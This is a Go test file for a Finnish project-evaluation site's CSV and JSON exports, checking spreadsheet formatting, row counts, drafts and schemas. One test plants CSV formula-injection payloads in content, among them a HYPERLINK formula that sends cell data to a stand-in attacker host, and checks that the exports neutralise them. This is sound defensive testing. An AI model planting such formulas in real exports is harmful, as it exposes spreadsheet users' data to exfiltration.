package site_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"path"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/malli-fi/malli/site"
	"github.com/malli-fi/malli/site/export"
	"github.com/malli-fi/malli/site/publish"
)

// readCSV parses a CSV export as a spreadsheet opens it: UTF-8 after a
// byte order mark, ";" between cells, CRLF line ends, every row as long
// as the header.
func readCSV(t *testing.T, p string, data []byte) [][]string {
	t.Helper()
	body, ok := bytes.CutPrefix(data, []byte("\uFEFF"))
	if !ok {
		t.Fatalf("%s: no byte order mark: Excel would guess the legacy code page", p)
	}
	r := csv.NewReader(bytes.NewReader(body))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", p, err)
	}
	if len(rows) == 0 || !bytes.HasSuffix(body, []byte("\r\n")) || bytes.Count(body, []byte("\r\n")) < len(rows) {
		t.Fatalf("%s: rows do not end in CRLF", p)
	}
	return rows
}

// table is a parsed CSV file with its header's columns by name.
type table struct {
	header []string
	rows   [][]string
}

func parseTable(t *testing.T, out *publish.Memory, p string) table {
	t.Helper()
	data, ok := out.File(p)
	if !ok {
		t.Fatalf("the build wrote no %s", p)
	}
	rows := readCSV(t, p, data)
	return table{rows[0], rows[1:]}
}

// row returns the first row whose column key is value, as a map.
func (tb table) row(t *testing.T, key, value string, more ...string) map[string]string {
	t.Helper()
	want := append([]string{key, value}, more...)
	for _, r := range tb.rows {
		m := map[string]string{}
		for i, h := range tb.header {
			m[h] = r[i]
		}
		match := true
		for i := 0; i < len(want); i += 2 {
			match = match && m[want[i]] == want[i+1]
		}
		if match {
			return m
		}
	}
	t.Fatalf("no row with %v", want)
	return nil
}

func (tb table) col(name string) int { return slices.Index(tb.header, name) }

// docFiles returns the front matter of every default-language document
// file data/<type>/<id>.json of a type.
func docFiles(t *testing.T, out *publish.Memory, typeName string) []map[string]any {
	t.Helper()
	var docs []map[string]any
	for _, p := range out.Paths() {
		if path.Dir(p) != "data/"+typeName || strings.Count(path.Base(p), ".") != 1 {
			continue
		}
		data, _ := out.File(p)
		var v struct {
			FrontMatter map[string]any `json:"front_matter"`
		}
		if err := json.Unmarshal(data, &v); err != nil {
			t.Fatal(err)
		}
		docs = append(docs, v.FrontMatter)
	}
	return docs
}

// TestCSVExportsOpenAsTables reads every CSV export of the real content
// as a Finnish spreadsheet would, and checks the columns and some real
// values: numbers with a decimal comma, dates as d.m.yyyy, codes with
// their Finnish label, lists joined, absolute URLs.
func TestCSVExportsOpenAsTables(t *testing.T) {
	out := buildExports(t, false)
	var csvs []string
	for _, p := range out.Paths() {
		if strings.HasPrefix(p, "data/") && path.Ext(p) == ".csv" {
			csvs = append(csvs, p)
		}
	}
	for _, p := range out.Paths() {
		if typeName, ok := strings.CutSuffix(strings.TrimPrefix(p, "data/"), ".json"); ok && !strings.Contains(typeName, "/") && typeName != "index" && typeName != "graph" && typeName != "evaluations" && typeName != "indicators" {
			// data/<type>.json: its spreadsheet has a row per document in
			// the default language.
			c := "data/" + typeName + ".csv"
			if !slices.Contains(csvs, c) {
				t.Errorf("%s has no spreadsheet %s", p, c)
				continue
			}
			tb := parseTable(t, out, c)
			if !slices.Equal(tb.header[:5], []string{"id", "title", "summary", "status", "url"}) || tb.header[len(tb.header)-1] != "translations" {
				t.Errorf("%s: header %v", c, tb.header)
			}
			if n := len(docFiles(t, out, typeName)); len(tb.rows) != n {
				t.Errorf("%s: %d rows for %d documents", c, len(tb.rows), n)
			}
		}
	}
	for _, p := range csvs {
		tb := parseTable(t, out, p)
		seen := map[string]bool{}
		for _, h := range tb.header {
			if seen[h] {
				t.Errorf("%s: column %s twice", p, h)
			}
			seen[h] = true
		}
	}

	project := parseTable(t, out, "data/project.csv")
	r := project.row(t, "id", "esimerkkihanke-tuetusti-toihin")
	for col, want := range map[string]string{
		"url":                          exportBase + "hankkeet/esimerkkihanke-tuetusti-toihin/",
		"status":                       "published",
		"state_aid_eur":                "700000",
		"start_date":                   "1.10.2020",
		"administrator.name":           "Esimerkkijärven sosiaali- ja terveyskuntayhtymä (kuvitteellinen)",
		"administrator.org_type":       "kuntayhtyma Kuntayhtymä",
		"area.regions":                 "13 Keski-Suomi",
		"area.municipalities":          "729 Saarijärvi, 992 Äänekoski",
		"operating_models":             "tuettu-tyollistyminen, alihankintamalli-tyotoiminnassa",
		"evaluation_coordinator.email": "eeva.esimerkki@esimerkkijarvi.example",
	} {
		if r[col] != want {
			t.Errorf("project.csv %s = %q, want %q", col, r[col], want)
		}
	}
	programme := parseTable(t, out, "data/programme.csv").row(t, "id", "tyokykyohjelma")
	if programme["max_aid_ratio"] != "0,8" || programme["translations"] != "sv, en" {
		t.Errorf("programme.csv max_aid_ratio %q, translations %q", programme["max_aid_ratio"], programme["translations"])
	}
	// The type's own fields in schema order, then the common ones.
	se := parseTable(t, out, "data/self_evaluation.csv")
	if !(se.col("subject") == 5 && se.col("subject") < se.col("criteria_set") && se.col("criteria_set") < se.col("phase") &&
		se.col("phase") < se.col("evaluated_on") && se.col("findings") < se.col("created") && se.col("assessor.name") > 0 && se.col("type") < 0) {
		t.Errorf("self_evaluation.csv columns %v", se.header)
	}

	// evaluations.csv: a row per score of the content.
	ev := parseTable(t, out, export.EvaluationsCSVPath)
	if !slices.Equal(ev.header, export.ScoreHeader) {
		t.Errorf("evaluations.csv header %v", ev.header)
	}
	scores := 0
	for _, fm := range docFiles(t, out, "self_evaluation") {
		list, _ := fm["scores"].([]any)
		scores += len(list)
	}
	if scores < 30 || len(ev.rows) != scores {
		t.Errorf("evaluations.csv has %d rows, the content %d scores", len(ev.rows), scores)
	}
	k1 := ev.row(t, "evaluation_id", "esimerkki-tuetusti-toihin-alkutilanne", "criterion_id", "k1")
	for col, want := range map[string]string{
		"subject_type": "project", "subject_id": "esimerkkihanke-tuetusti-toihin",
		"subject_title":   "Esimerkkihanke: Tuetusti töihin Esimerkkijärven alueella",
		"criteria_set_id": "hankehakemusten-arviointikriteerit", "criteria_set_title": "Hankehakemusten arviointikriteerit",
		"phase": "baseline", "phase_label": "Alkutilanne", "evaluated_on": "22.1.2021",
		"evaluation_type": "self", "evaluation_type_label": "Itsearviointi",
		"criterion_title": "Hanke täyttää valtionavustushankkeiden yleiset myöntämisen edellytykset",
		"criterion_group": "I Hankkeen lähtökohdat", "score": "2", "score_label": "Toteutuu täysin",
		"scale_min": "0", "scale_max": "2", "not_applicable": "FALSE",
		"evaluation_url": exportBase + "itsearvioinnit/esimerkki-tuetusti-toihin-alkutilanne/",
	} {
		if k1[col] != want {
			t.Errorf("evaluations.csv k1 %s = %q, want %q", col, k1[col], want)
		}
	}
	na := ev.row(t, "criterion_id", "askel-5-tyosuhde")
	if na["not_applicable"] != "TRUE" || na["score"] != "" || na["score_label"] != "" || na["rationale"] == "" || na["criterion_title"] == "" {
		t.Errorf("a criterion marked not applicable reads %v", na)
	}

	// indicators.csv: a row per value of the content.
	ind := parseTable(t, out, export.IndicatorsCSVPath)
	if !slices.Equal(ind.header, export.ValueHeader) {
		t.Errorf("indicators.csv header %v", ind.header)
	}
	values := 0
	for _, fm := range docFiles(t, out, "monitoring") {
		rounds, _ := fm["rounds"].([]any)
		for _, x := range rounds {
			vs, _ := x.(map[string]any)["values"].([]any)
			values += len(vs)
		}
	}
	if values < 30 || len(ind.rows) != values {
		t.Errorf("indicators.csv has %d rows, the content %d values", len(ind.rows), values)
	}
	wa := ind.row(t, "monitoring_id", "esimerkki-tuetusti-toihin-seuranta", "indicator_id", "tyokyky", "phase", "baseline")
	for col, want := range map[string]string{
		"value": "4,9", "n": "12", "suppressed": "FALSE", "round": "1", "phase_label": "Alkutilanne",
		"period_start": "1.10.2020", "period_end": "31.12.2020", "collected_on": "20.1.2021",
		"project_id": "esimerkkihanke-tuetusti-toihin", "indicator_set_id": "tyokykyohjelman-yhteiset-indikaattorit",
	} {
		if wa[col] != want {
			t.Errorf("indicators.csv tyokyky %s = %q, want %q", col, wa[col], want)
		}
	}
	if wa["indicator_title"] == "" || wa["unit"] == "" || wa["direction_label"] == "" || wa["data_source"] == "" {
		t.Errorf("indicators.csv tyokyky lacks the indicator's facts: %v", wa)
	}
	sup := ind.row(t, "indicator_id", "ohjaukset-te-palveluihin", "phase", "baseline")
	if sup["suppressed"] != "TRUE" || sup["value"] != "" {
		t.Errorf("a suppressed value reads %v", sup)
	}

	// The JSON files have the same rows.
	var evj export.EvaluationsFile
	var indj export.IndicatorsFile
	for p, v := range map[string]any{export.EvaluationsPath: &evj, export.IndicatorsPath: &indj} {
		data, _ := out.File(p)
		if err := json.Unmarshal(data, v); err != nil {
			t.Fatalf("%s: %v", p, err)
		}
	}
	if len(evj.Scores) != len(ev.rows) || len(indj.Values) != len(ind.rows) {
		t.Errorf("the JSON files have %d scores and %d values, the CSV files %d and %d", len(evj.Scores), len(indj.Values), len(ev.rows), len(ind.rows))
	}
}

// TestCSVNeutralisesFormulas: a text a spreadsheet would run as a formula
// is written with an apostrophe first in every CSV file, and as it is in
// JSON; no cell of any CSV export starts a formula.
func TestCSVNeutralisesFormulas(t *testing.T) {
	m := realSite(t)
	edit := func(p, old, new string) {
		t.Helper()
		if !bytes.Contains(m[p].Data, []byte(old)) {
			t.Fatalf("%s has no %q", p, old)
		}
		m[p].Data = bytes.Replace(m[p].Data, []byte(old), []byte(new), 1)
	}
	edit("content/itsearvioinnit/esimerkki-tuetusti-toihin-alkutilanne.md",
		"rationale: Hanke uudistaa julkisen sosiaalihuollon työllistymistä tukevia palveluja ja tekee poikkihallinnollista yhteistyötä.",
		`rationale: '=HYPERLINK("https://pahis.example/?"&A1;"Avaa")'`)
	edit("content/sivut/tietoa.md", `"keywords": [`, `"keywords": ["@SUM(1+1)", `)
	edit("content/hankkeet/esimerkkihanke-tuetusti-toihin.md", "project_code: ESIMERKKI-2", `project_code: "+ESIMERKKI-2"`)
	out := &publish.Memory{}
	if _, err := site.Build(context.Background(), site.Options{FS: m, Out: out, BaseURL: exportBase}); err != nil {
		t.Fatal(err)
	}
	ev := parseTable(t, out, export.EvaluationsCSVPath)
	if r := ev.row(t, "evaluation_id", "esimerkki-tuetusti-toihin-alkutilanne", "criterion_id", "k1"); r["rationale"] != `'=HYPERLINK("https://pahis.example/?"&A1;"Avaa")` {
		t.Errorf("evaluations.csv rationale %q", r["rationale"])
	}
	if r := parseTable(t, out, "data/page.csv").row(t, "id", "tietoa"); !strings.HasPrefix(r["keywords"], "'@SUM(1+1), ") {
		t.Errorf("page.csv keywords %q", r["keywords"])
	}
	if r := parseTable(t, out, "data/project.csv").row(t, "id", "esimerkkihanke-tuetusti-toihin"); r["project_code"] != "'+ESIMERKKI-2" {
		t.Errorf("project.csv project_code %q", r["project_code"])
	}
	data, _ := out.File(export.EvaluationsPath)
	if !bytes.Contains(data, []byte(`"rationale":"=HYPERLINK(\"https://pahis.example/?\"\u0026A1;\"Avaa\")"`)) {
		t.Errorf("evaluations.json does not keep the rationale as written")
	}
	number := regexp.MustCompile(`^-[0-9]+(,[0-9]+)?$`)
	for _, p := range out.Paths() {
		if !strings.HasPrefix(p, "data/") || path.Ext(p) != ".csv" {
			continue
		}
		d, _ := out.File(p)
		for i, row := range readCSV(t, p, d) {
			for j, c := range row {
				if c != "" && (strings.ContainsAny(c[:1], "=+@\t\r") || c[0] == '-' && !number.MatchString(c)) {
					t.Errorf("%s row %d column %d starts a formula: %q", p, i, j, c)
				}
			}
		}
	}
}

// TestLongFormatPublishesNoDraft: a draft self-evaluation gives no rows
// unless the build publishes drafts.
func TestLongFormatPublishesNoDraft(t *testing.T) {
	m := realSite(t)
	p := "content/itsearvioinnit/esimerkki-tuetusti-toihin-laatukriteerit-alkutilanne.md"
	m[p].Data = bytes.Replace(m[p].Data, []byte("status: published"), []byte("status: draft"), 1)
	for _, q := range []string{"content/hankkeet/esimerkkihanke-tuetusti-toihin.md", "content/kriteeristot/tuetun-tyollistymisen-laatukriteerit.md", "content/itsearvioinnit/esimerkki-tuetusti-toihin-laatukriteerit-valitilanne.md"} {
		m[q].Data = bytes.ReplaceAll(m[q].Data, []byte("(../itsearvioinnit/esimerkki-tuetusti-toihin-laatukriteerit-alkutilanne.md)"), nil) // no link to the draft
	}
	for _, drafts := range []bool{false, true} {
		out := &publish.Memory{}
		if _, err := site.Build(context.Background(), site.Options{FS: m, Out: out, Drafts: drafts}); err != nil {
			t.Fatal(err)
		}
		for _, f := range []string{export.EvaluationsPath, export.EvaluationsCSVPath, "data/self_evaluation.csv"} {
			data, _ := out.File(f)
			if got := bytes.Contains(data, []byte("esimerkki-tuetusti-toihin-laatukriteerit-alkutilanne")); got != drafts {
				t.Errorf("drafts %v: %s names the draft: %v", drafts, f, got)
			}
		}
	}
}

// TestLongFormatSchemasCatchBrokenRows: the published export schemas
// reject a row that lacks a column, has a column of the wrong type or
// one they do not know — so TestExportsFollowTheirSchemas would catch a
// broken file.
func TestLongFormatSchemasCatchBrokenRows(t *testing.T) {
	out := buildExports(t, false)
	c := publishedSchemas(out)
	for _, tc := range []struct {
		file, list string
		breaks     []func(row map[string]any)
	}{
		{export.EvaluationsPath, "scores", []func(map[string]any){
			func(r map[string]any) { delete(r, "criterion_id") },
			func(r map[string]any) { r["score"] = "2" },
			func(r map[string]any) { r["evaluated_on"] = "22.1.2021" },
			func(r map[string]any) { r["phase_label"] = "Alkutilanne" },
			func(r map[string]any) { r["extra"] = 1 },
		}},
		{export.IndicatorsPath, "values", []func(map[string]any){
			func(r map[string]any) { delete(r, "value") },
			func(r map[string]any) { r["value"] = "4,9" },
			func(r map[string]any) { r["suppressed"] = "kyllä" },
			func(r map[string]any) { r["round"] = 0 },
		}},
	} {
		data, _ := out.File(tc.file)
		var probe map[string]any
		if err := json.Unmarshal(data, &probe); err != nil {
			t.Fatal(err)
		}
		s, err := c.Compile(probe["$schema"].(string))
		if err != nil {
			t.Fatal(err)
		}
		for i, brk := range tc.breaks {
			var v map[string]any
			dec := json.NewDecoder(bytes.NewReader(data))
			dec.UseNumber()
			if err := dec.Decode(&v); err != nil {
				t.Fatal(err)
			}
			if err := s.Validate(v); err != nil {
				t.Fatalf("%s as built: %v", tc.file, err)
			}
			brk(v[tc.list].([]any)[0].(map[string]any))
			if s.Validate(v) == nil {
				t.Errorf("%s: broken row %d passes its schema", tc.file, i)
			}
		}
	}
}

// TestSessionRemakesSpreadsheets: after an edit of what the spreadsheets
// and the long-format files read of another document — the subject's
// title, a criterion's title, a scale's label, an indicator's unit, a
// value — a Session's files are those of a fresh build; a body edit
// makes none of them again.
func TestSessionRemakesSpreadsheets(t *testing.T) {
	m := realSite(t)
	s := startSession(t, m, site.Options{BaseURL: exportBase})
	files := []string{export.EvaluationsPath, export.EvaluationsCSVPath, export.IndicatorsPath, export.IndicatorsCSVPath, "data/self_evaluation.csv", "data/monitoring.csv", "data/project.csv"}
	for _, e := range []struct{ name, path, old, new string }{
		{"subject's title", "content/hankkeet/esimerkkihanke-tuetusti-toihin.md", "title: \"", "title: \"Uusi nimi – "},
		{"criterion's title", "content/kriteeristot/hankehakemusten-arviointikriteerit.md", `title = "Hanke täyttää`, `title = "Uusi: Hanke täyttää`},
		{"scale's label", "content/kriteeristot/hankehakemusten-arviointikriteerit.md", `label = "Toteutuu osittain"`, `label = "Osittain"`},
		{"indicator's unit", "content/indikaattoristot/tyokykyohjelman-yhteiset-indikaattorit.md", "unit: henkilöä", "unit: asiakasta"},
		{"value", "content/seuranta/esimerkki-tuetusti-toihin-seuranta.md", "value: 4.9", "value: 4.8"},
		{"body", "content/itsearvioinnit/esimerkki-tuetusti-toihin-alkutilanne.md", "\n## Havainnot\n", "\nUusi kappale.\n\n## Havainnot\n"},
	} {
		if !bytes.Contains(m[e.path].Data, []byte(e.old)) {
			t.Fatalf("%s: %s has no %q", e.name, e.path, e.old)
		}
		m[e.path].Data = bytes.Replace(m[e.path].Data, []byte(e.old), []byte(e.new), 1)
		snap, err := s.Build(context.Background(), []string{e.path}, false)
		if err != nil {
			t.Fatalf("%s: %v", e.name, err)
		}
		want, _, err := fresh(t, m, site.Options{BaseURL: exportBase})
		if err != nil {
			t.Fatalf("%s: %v", e.name, err)
		}
		changed := 0
		for _, p := range files {
			if !bytes.Equal(snap.Files[p], want[p]) {
				t.Errorf("%s: %s differs from a fresh build", e.name, p)
			}
			if slices.Contains(snap.Changed, p) {
				changed++
			}
		}
		if e.name == "body" && changed > 0 {
			t.Errorf("a body edit changed %v", snap.Changed)
		} else if e.name != "body" && changed == 0 {
			t.Errorf("%s changed none of %v", e.name, files)
		}
	}
}
